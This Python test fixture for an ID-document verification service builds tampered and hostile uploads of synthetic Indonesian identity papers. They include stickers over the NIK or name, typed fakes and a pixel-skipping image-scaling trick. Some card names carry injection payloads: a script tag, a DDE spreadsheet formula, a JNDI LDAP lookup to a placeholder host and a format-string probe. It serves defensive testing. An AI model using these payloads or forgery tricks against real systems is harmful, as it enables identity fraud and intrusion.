"""Hostile and odd uploads, by what can be seen in them: rows 16, 33 to 43 and 54 of the list.

The papers are drawn by the samples' generator for one invented household, photographed and then
tampered with; as in `tests.hostile`, no picture is kept in the repository.  `SCENES` holds what is
uploaded, to which slot, with which declared data, and which answers are right.
"""

from __future__ import annotations

import io
from collections.abc import Callable, Mapping
from dataclasses import dataclass, replace
from functools import cache

import cv2
import numpy as np
from generator import camera, notdocs, papers, shots
from generator.album import household
from generator.base import Flat, Shot
from generator.fonts import FOLDER
from generator.people import Family, Person
from PIL import Image, ImageDraw, ImageFont

from docverify.types import Pixels

SPLIT = "train"
SIDE = 1280

PASSES = frozenset({"accept", "review"})
BLOCKED = frozenset({"retake", "reject"})
RETAKE = frozenset({"retake"})
REJECT = frozenset({"reject"})
ACCEPT = frozenset({"accept"})
NO_ACCEPT = frozenset({"review", "retake", "reject"})
NO_REJECT = frozenset({"accept", "review", "retake"})

NO_DOCUMENT = frozenset({"not_a_document", "wrong_document_type"})
WRONG = frozenset({"wrong_document_type"})
UNREAD = frozenset({"unreadable_fields"})


@dataclass(frozen=True, slots=True)
class Scene:
    """One upload.

    item      row of the list of bad inputs that it stands for
    build     gives the bytes
    slot      where it is uploaded
    declares  'father', 'child' or 'mother': who applies
    outcomes  the outcomes that are right
    codes     where it is blocked, one of these reasons has to be told (empty: any)
    notes     where it passes, these reasons have to be told
    never     reasons that would be wrong
    reads     fields and the value that may be read there; any other value is wrong
    gap       what docverify still lacks for the right answer, or ''; a test says when it is filled
    """

    item: int
    name: str
    build: Callable[[], bytes]
    slot: str
    outcomes: frozenset[str]
    codes: frozenset[str] = frozenset()
    notes: frozenset[str] = frozenset()
    never: frozenset[str] = frozenset()
    reads: Callable[[], Mapping[str, str]] = dict
    declares: str = "father"
    gap: str = ""

    def __str__(self) -> str:
        return f"{self.item:02d}-{self.name}"


# ------------------------------------------------------------------------- the household


@cache
def home() -> tuple[Family, dict[str, Person]]:
    """One family: father, mother, a child, and a stranger."""
    family, father, mother, child, _ = household(rng(1), SPLIT)
    _, stranger, *_ = household(rng(2), SPLIT)
    return family, {"father": father, "mother": mother, "child": child, "stranger": stranger}


def rng(seed: int) -> np.random.Generator:
    return np.random.default_rng([2026, seed])


def application(who: str) -> dict[str, str]:
    family, people = home()
    return shots.application(people[who], family, passport=True)


@cache
def flat(label: str, who: str = "father", generation: str | None = None) -> Flat:
    """A paper of the household, seen flat."""
    family, people = home()
    person = people[who] if who != "stranger" else None
    found, _, _ = shots.paper(
        label,
        rng(7),
        SPLIT,
        family=family if person is not None else None,
        person=person,
        generation=generation,
    )
    return found


def photo(paper: Flat, capture: str = "mild", seed: int = 3, rotation: int = 0) -> Shot:
    return camera.photograph(
        paper, rng(seed), split=SPLIT, size=SIDE, capture=capture, rotation=rotation
    )


def jpeg(pixels: Pixels, quality: int = 90) -> bytes:
    out = io.BytesIO()
    Image.fromarray(pixels).save(out, "JPEG", quality=quality)
    return out.getvalue()


def png(pixels: Pixels) -> bytes:
    out = io.BytesIO()
    Image.fromarray(pixels).save(out, "PNG")
    return out.getvalue()


def shown(label: str, capture: str = "mild", who: str = "father", seed: int = 3) -> bytes:
    return jpeg(photo(flat(label, who), capture, seed).image)


# ----------------------------------------------------------------------------- tampering


def typed(lines: list[str], size: int = 30, width: int = 1100) -> Pixels:
    """Lines of black text on white, as an editor shows them."""
    face = ImageFont.truetype(str(FOLDER / "texgyreheros-regular.otf"), size)
    picture = Image.new("RGB", (width, round(size * 1.6) * (len(lines) + 3)), "white")
    pen = ImageDraw.Draw(picture)
    for row, text in enumerate(lines):
        pen.text((60, round(size * 1.6) * (row + 1)), text, fill=(20, 20, 20), font=face)
    return np.asarray(picture)


def _card_text() -> list[str]:
    """What stands on the father's KTP, line by line, with nothing of its looks."""
    declared = application("father")
    year, month, day = declared["birth_date"].split("-")
    sex = "LAKI-LAKI" if declared["sex"] == "M" else "PEREMPUAN"
    return [
        "PROVINSI DKI JAKARTA",
        "KOTA JAKARTA SELATAN",
        f"NIK : {declared['nik']}",
        f"Nama : {declared['name']}",
        f"Tempat/Tgl Lahir : {declared['birth_place']}, {day}-{month}-{year}",
        f"Jenis Kelamin : {sex}",
        "Alamat : JL. CONTOH NO. 1",
        "RT/RW : 001/002",
        "Agama : ISLAM",
        "Status Perkawinan : KAWIN",
        "Pekerjaan : KARYAWAN SWASTA",
        "Kewarganegaraan : WNI",
        "Berlaku Hingga : SEUMUR HIDUP",
    ]


def editor_window() -> Pixels:
    """The same text in a window with a title bar, a menu and a line count."""
    text = typed(_card_text(), size=24)
    bar = np.full((64, text.shape[1], 3), (45, 90, 160), np.uint8)
    menu = typed(["File    Edit    Format    View    Help"], size=20)[:90]
    foot = typed(["Ln 13, Col 42      100 %      UTF-8"], size=18)[:80]
    return np.concatenate([bar, menu, text, foot])


def typed_zone() -> Pixels:
    """The two machine-readable lines of a passport, typed."""
    lines = {line.key: line.text for line in flat("passport").lines if line.key}
    return typed(["REPUBLIK INDONESIA   PASPOR", lines["mrz_line1"], lines["mrz_line2"]], 26, 1300)


def side_by_side(*papers_: Flat) -> Pixels:
    return camera.photograph_many(
        papers_, rng(11), split=SPLIT, size=1600, capture="mild", rotation=0
    )[0].image


def both_halves(one: Pixels, two: Pixels) -> Pixels:
    """Two pictures one above the other, as collage apps make them."""
    width = 1200
    parts = [cv2.resize(p, (width, round(width * p.shape[0] / p.shape[1]))) for p in (one, two)]
    return np.concatenate([np.asarray(p, np.uint8) for p in parts])


def box_of(shot: Shot, key: str) -> tuple[int, int, int, int]:
    """Left, top, right, bottom of a printed field in a photo."""
    quad = next(line.quad for line in shot.lines if line.key == key)
    xs, ys = [p[0] for p in quad], [p[1] for p in quad]
    return int(min(xs)), int(min(ys)), int(max(xs)), int(max(ys))


def on_sticker(shot: Shot, key: str, text: str) -> Pixels:
    """A white sticker with other text over one field."""
    left, top, right, bottom = box_of(shot, key)
    out = shot.image.copy()
    tall = bottom - top
    face = ImageFont.truetype(str(FOLDER / "texgyreheros-bold.otf"), max(12, round(tall * 0.8)))
    wide = max(right - left, round(face.getlength(text))) + 16
    label = Image.new("RGB", (wide, round(tall * 1.5)), (250, 250, 245))
    ImageDraw.Draw(label).text((6, tall * 0.2), text, fill=(25, 25, 30), font=face)
    patch = np.asarray(label)[:, : out.shape[1] - left]
    top = max(0, top - round(tall * 0.25))
    out[top : top + patch.shape[0], left : left + patch.shape[1]] = patch[: out.shape[0] - top]
    return out


def with_slip_beside(shot: Shot, lines: list[str]) -> Pixels:
    """A slip of paper with other numbers lies below the card."""
    slip = typed(lines, 30, shot.image.shape[1])
    table = np.full((40, shot.image.shape[1], 3), np.median(shot.image, axis=(0, 1)), np.uint8)
    return np.concatenate([shot.image, table, slip])


def only_when_skipped(hidden: Pixels, shown_: Pixels, step: int = 5) -> Pixels:
    """A picture of `shown_` in which every `step`-th pixel belongs to `hidden`.

    Whoever shrinks it by taking single pixels sees `hidden`; people see `shown_`.
    """
    height, width = hidden.shape[:2]
    out = np.asarray(cv2.resize(shown_, (width * step, height * step)), np.uint8).copy()
    out[step // 2 :: step, step // 2 :: step] = hidden
    return out


def damaged_rows() -> bytes:
    """The KTP with the coded data of the row of blocks with the NIK shifted: it still decodes."""
    shot = photo(flat("ktp"), "flat")
    pixels = shot.image.copy()
    left, top, right, bottom = box_of(shot, "nik")
    middle = (left + right) // 2
    pixels[top - 4 : bottom + 4, middle:] = np.roll(pixels[top - 4 : bottom + 4, middle:], 41, 1)
    return jpeg(pixels)


def renamed(name: str) -> Flat:
    """The father's KTP under a name that means something to machines."""
    family, people = home()
    odd = replace(people["father"], name=name, card_name=name)
    return papers.draw("ktp", rng(7), SPLIT, person=odd, family=family, generation="ktp_el")


def dated_card() -> Flat:
    """A KTP-el that says 'Berlaku Hingga' with a day long past."""
    for seed in range(400):
        family, people = home()
        found = papers.draw(
            "ktp", rng(seed), SPLIT, person=people["father"], family=family, generation="ktp_el"
        )
        until = [line.text for line in found.lines if line.text[-4:] in ("2015", "2016", "2017")]
        if until and "SEUMUR HIDUP" not in [line.text for line in found.lines]:
            return found
    raise AssertionError("the generator draws no dated card any more")


def expired_passport() -> Flat:
    for seed in range(100):
        family, people = home()
        found = papers.draw(
            "passport",
            rng(seed),
            SPLIT,
            person=people["father"],
            family=family,
            generation="passport_2014",
        )
        if found.fields["expiry_date"] < "2026-01-01":
            return found
    raise AssertionError("the generator draws no expired passport any more")


def mirrored(label: str, capture: str = "mild") -> bytes:
    return jpeg(np.ascontiguousarray(photo(flat(label), capture).image[:, ::-1]))


def _father(*keys: str) -> Callable[[], Mapping[str, str]]:
    def read() -> Mapping[str, str]:
        fields = flat("ktp").fields
        return {key: fields[key] for key in keys}

    return read


_FATHER = _father("nik", "name", "birth_date")


def nothing(kind: str, seed: int = 5) -> Callable[[], bytes]:
    return lambda: jpeg(notdocs.draw(rng(seed), SIDE, kind).image)


def other(kind: str) -> Callable[[], bytes]:
    return lambda: jpeg(photo(flat("other_document", generation=kind)).image)


# ------------------------------------------------------------------------------ the list

_OTHER_NIK = "3273014405929123"

_UNREADABLE = (
    # paper, slot, capture, a seed with which nobody can read every key field, its fault
    ("ktp", "ktp", "cut", 10, "cut_off"),
    ("ktp", "ktp", "finger", 8, "covered"),
    ("ktp", "ktp", "glare", 10, "glare"),
    ("ktp", "ktp", "motion", 4, "blurred"),
    ("ktp", "ktp", "dark", 3, "too_dark"),
    ("ktp", "ktp", "blur", 8, "blurred"),
    ("ktp", "ktp", "far", 3, "too_small"),
    ("family_card", "family_card", "motion", 3, "blurred"),
    ("family_card", "family_card", "dark", 3, "too_dark"),
    ("family_card", "family_card", "far", 3, "too_small"),
    ("passport", "old_passport", "motion", 4, "blurred"),
    ("passport", "old_passport", "blur", 8, "blurred"),
)


def _unreadable() -> list[Scene]:
    return [
        Scene(
            38,
            f"{label}-{capture}",
            lambda label=label, capture=capture, seed=seed: shown(label, capture, seed=seed),  # type: ignore[misc]
            slot,
            NO_REJECT,
            frozenset({fault}),
        )
        for label, slot, capture, seed, fault in _UNREADABLE
    ]


SCENES: list[Scene] = [
    Scene(16, "damaged-digits", damaged_rows, "ktp", NO_REJECT, reads=_father("nik")),
    Scene(
        33,
        "card-for-shrinkers",
        lambda: png(
            only_when_skipped(
                np.asarray(cv2.resize(photo(flat("ktp"), "flat").image, (560, 360)), np.uint8),
                np.full((4, 4, 3), 235, np.uint8),
            )
        ),
        "ktp",
        NO_ACCEPT,
    ),
    Scene(
        33,
        "family-card-under-a-card",
        lambda: png(
            only_when_skipped(
                np.asarray(cv2.resize(flat("family_card").image, (520, 330)), np.uint8),
                photo(flat("ktp"), "flat").image,
            )
        ),
        "ktp",
        NO_REJECT,
    ),
    Scene(34, "selfie", nothing("selfie"), "ktp", REJECT, NO_DOCUMENT),
    Scene(34, "pet", nothing("animal"), "ktp", REJECT, NO_DOCUMENT),
    Scene(34, "room", nothing("room"), "family_card", REJECT, NO_DOCUMENT),
    Scene(34, "receipt", other("receipt"), "ktp", REJECT, WRONG),
    Scene(34, "chat", other("chat"), "family_card", BLOCKED),
    Scene(34, "bank-card", other("bank_card"), "ktp", BLOCKED),
    Scene(35, "ktp-for-family-card", lambda: shown("ktp"), "family_card", REJECT, WRONG),
    Scene(35, "family-card-for-ktp", lambda: shown("family_card", "scan"), "ktp", REJECT, WRONG),
    Scene(
        35, "akta-for-passport", lambda: shown("birth_certificate"), "old_passport", REJECT, WRONG
    ),
    Scene(35, "passport-for-akta", lambda: shown("passport"), "birth_certificate", REJECT, WRONG),
    Scene(
        36,
        "two-cards-of-two-people",
        lambda: jpeg(side_by_side(flat("ktp"), flat("ktp", "mother"))),
        "ktp",
        NO_REJECT,  # the applicant's own passes where it is fully legible, whatever lies beside it
        frozenset({"two_documents", "too_small"}),
        reads=_father("nik", "name", "birth_date", "sex"),
    ),
    Scene(
        36,
        "card-and-family-card",
        lambda: jpeg(side_by_side(flat("ktp"), flat("family_card"))),
        "ktp",
        NO_REJECT,
        frozenset({"two_documents", "too_small"}),
    ),
    Scene(
        36,
        "both-sides",
        lambda: jpeg(both_halves(flat("ktp").image, flat("ktp_back").image)),
        "ktp",
        NO_REJECT,
        frozenset({"two_documents"}),
        reads=_father("nik"),
    ),
    Scene(
        36,
        "neither-is-wanted",
        lambda: jpeg(both_halves(flat("passport").image, flat("ktp").image)),
        "family_card",
        BLOCKED,
        frozenset({"wrong_document_type", "two_documents"}),
    ),
    Scene(37, "ktp-back", lambda: shown("ktp_back"), "ktp", RETAKE, frozenset({"wrong_side"})),
    Scene(
        37,
        "passport-other-page",
        lambda: shown("passport_other_page"),
        "old_passport",
        RETAKE,
        frozenset({"wrong_side"}),
    ),
    *_unreadable(),
    *(
        Scene(
            39,
            f"turned-{turn}",
            lambda turn=turn: jpeg(photo(flat("ktp"), "mild", rotation=turn).image),  # type: ignore[misc]
            "ktp",
            ACCEPT,
            reads=_father("nik", "name", "birth_date"),
        )
        for turn in (0, 90, 180, 270)
    ),
    # legible or not, it has to be shot again: an officer cannot read it as it is
    Scene(39, "mirrored-ktp", lambda: mirrored("ktp"), "ktp", RETAKE, UNREAD, reads=_FATHER),
    Scene(39, "mirrored-passport", lambda: mirrored("passport"), "old_passport", RETAKE, UNREAD),
    Scene(
        39,
        "mirrored-akta",
        lambda: mirrored("birth_certificate"),
        "birth_certificate",
        RETAKE,
        UNREAD,
    ),
    Scene(
        40,
        "photo-of-a-screen",
        lambda: shown("ktp", "screen"),
        "ktp",
        PASSES,
        notes=frozenset({"possible_screen"}),
    ),
    Scene(40, "screenshot", lambda: shown("ktp", "screenshot"), "ktp", PASSES),
    Scene(
        40,
        "black-and-white-copy",
        lambda: shown("ktp", "greycopy"),
        "ktp",
        PASSES,
        notes=frozenset({"greyscale_copy"}),
    ),
    Scene(
        40,
        "grey-family-card-is-an-original",
        lambda: shown("family_card", "greycopy"),
        "family_card",
        PASSES,
        never=frozenset({"greyscale_copy", "possible_screen"}),
    ),
    Scene(41, "typed", lambda: png(typed(_card_text())), "ktp", NO_ACCEPT),
    Scene(41, "typed-in-a-window", lambda: png(editor_window()), "ktp", NO_ACCEPT),
    Scene(
        41,
        "typed-and-photographed",
        lambda: jpeg(_on_a_screen(editor_window())),
        "ktp",
        NO_ACCEPT,
    ),
    Scene(41, "typed-code-lines", lambda: png(typed_zone()), "old_passport", NO_ACCEPT),
    Scene(
        42,
        "sticker-with-another-nik",
        lambda: jpeg(on_sticker(photo(flat("ktp"), "flat"), "nik", _OTHER_NIK)),
        "ktp",
        NO_ACCEPT,
    ),
    Scene(
        42,
        "sticker-with-another-name",
        lambda: jpeg(on_sticker(photo(flat("ktp"), "flat"), "name", "BAMBANG PALSU")),
        "ktp",
        NO_ACCEPT,
    ),
    Scene(
        42,
        "second-nik-beside",
        lambda: jpeg(with_slip_beside(photo(flat("ktp"), "mild"), [f"NIK : {_OTHER_NIK}"])),
        "ktp",
        NO_REJECT,
        reads=_father("nik"),
    ),
    Scene(
        42,
        "bare-number-beside",
        lambda: jpeg(with_slip_beside(photo(flat("ktp"), "mild"), [_OTHER_NIK, "0812 3456 7890"])),
        "ktp",
        NO_REJECT,
        reads=_father("nik", "name"),
    ),
    Scene(
        43,
        "expired-passport",
        lambda: jpeg(photo(expired_passport()).image),
        "old_passport",
        PASSES,
        never=frozenset({"full_set_needed"}),
    ),
    Scene(43, "past-date-on-a-card", lambda: jpeg(photo(dated_card()).image), "ktp", ACCEPT),
    *(
        Scene(
            54,
            f"named-{name}",
            lambda text=text: jpeg(photo(renamed(text), "flat").image),  # type: ignore[misc]
            "ktp",
            frozenset({"review", "retake"}),
        )
        for name, text in (
            ("script", "<script>alert(1)</script>"),
            ("formula", "=cmd|' /C calc'!A0"),
            ("lookup", "${jndi:ldap://x.invalid/a}"),
            ("format", "%s%n {0.__class__}"),
        )
    ),
]


def _on_a_screen(pixels: Pixels) -> Pixels:
    paper = Flat(np.ascontiguousarray(pixels), "other_document", millimetres=(300.0, 200.0))
    return photo(paper, "screen").image
